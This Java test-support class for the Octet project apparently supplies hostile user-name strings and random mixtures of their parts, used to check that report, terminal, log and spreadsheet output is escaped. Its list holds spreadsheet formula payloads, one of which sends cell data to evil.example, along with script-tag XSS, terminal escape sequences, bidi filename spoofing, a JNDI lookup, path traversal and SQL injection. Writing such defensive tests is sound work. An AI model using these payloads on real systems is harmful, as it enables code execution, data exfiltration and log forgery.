package dev.octet.event.text;

import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;

/**
 * Texts that somebody may type as a user name to harm the reader of a report, a terminal, a log or a spreadsheet: every
 * kind by hand, and random mixtures of their parts.
 */
public final class Hostile {
    /** Each stands for a kind of harm. */
    public static final List<String> TEXTS = List.of(
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "=cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\uff1d1+1",
            " =1+1",
            "\"=1+1\"",
            ";=1+1",
            "a,=1+1",
            "[reset your password](http://evil.example/)",
            "<img src=http://evil.example/p.png>",
            "![p](http://evil.example/p.png)",
            "<script>alert(1)</script>",
            "\"><script>alert(1)</script>",
            "</script><script>alert(1)</script>",
            "' onmouseover='alert(1)",
            "javascript:alert(1)",
            "http://evil.example/",
            "www.evil.example",
            "mailto:ceo@evil.example",
            "a | b",
            "a \\| b",
            "a\\",
            "`x`",
            "*bold* _it_ ~~gone~~ **b** __c__",
            "a\n\n# Heading from a user name",
            "# Heading",
            "- item",
            "1. item",
            "> quotation",
            "===",
            "---",
            "&lt;script&gt;&#x202e;",
            "a\r\n2. 2021-01-01T00:00:00Z, ceo, score 99: forged alert line",
            "a\n{\"id\":\"forged\",\"user\":\"ceo\"}",
            "a\",\"user\":\"ceo",
            "a\u2028b\u2029c\u0085d\u000be",
            "\u009b2J\u009b31mred",
            "\u001b[2J\u001b[31mred\u001b]0;title\u0007",
            "\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\",
            "user\b\b\b\broot\u007f",
            "\u202egnp.exe",
            "\u2066\u2067\u2068\u2069\u202a\u202b\u202c\u202d\u200e\u200f\u061c",
            "ad\u200bm\u200ci\u200dn\u2060\ufeff\u00ad",
            "admin\ud83c\ude00\udb40\udc41\udb40\uddef",
            "\ud800 alone \udc00",
            "\ue000\uffff\ufdd0\u3164\u034f\ufe0f",
            "%s%n%d%x {} {0} ${jndi:ldap://evil.example/a} #{1+1}",
            "../../etc/passwd\u0000.png",
            "'; DROP TABLE logins; --",
            "CEF:0|a|b|c|d|e|10|user=ceo\\",
            "x".repeat(70_000),
            "\u202e".repeat(5_000));

    private static final List<String> PARTS = new ArrayList<>();

    static {
        for (char c : "=+-@|`*_~#[]()<>&\"'\\/:;,.!$%{}^? \t\r\n\0\u001b\u007f\u0085\u009b".toCharArray()) {
            PARTS.add(String.valueOf(c));
        }
        for (int c :
                new int[] {0x202e, 0x2066, 0x200b, 0x200d, 0xfeff, 0x2028, 0xff1d, 0xe0041, 0xfe0f, 0xd83d, 0x301}) {
            PARTS.add(Character.toString(c));
        }
        PARTS.addAll(List.of(
                "ann", "7", "-1.5", "http://", "www.", "mailto:", "script", "1. ", "# ", "\ud83d\ude00", "漢", "å"));
    }

    private Hostile() {}

    /** A random mixture of one to twelve parts. */
    public static String next(SplittableRandom random) {
        StringBuilder text = new StringBuilder();
        for (int left = random.nextInt(1, 13); left > 0; left--) {
            text.append(PARTS.get(random.nextInt(PARTS.size())));
        }
        return text.toString();
    }

    /** Characters that no output may hold as they are; {@code allowed} are those that Octet itself writes. */
    public static List<String> hiddenIn(String output, String allowed) {
        return output.codePoints()
                .filter(c -> allowed.indexOf(c) < 0)
                .filter(c -> {
                    int type = Character.getType(c);
                    return type == Character.CONTROL
                            || type == Character.FORMAT
                            || type == Character.SURROGATE
                            || type == Character.LINE_SEPARATOR
                            || type == Character.PARAGRAPH_SEPARATOR
                            || type == Character.PRIVATE_USE
                            || type == Character.UNASSIGNED;
                })
                .mapToObj(c -> String.format("U+%04X", c))
                .distinct()
                .toList();
    }
}
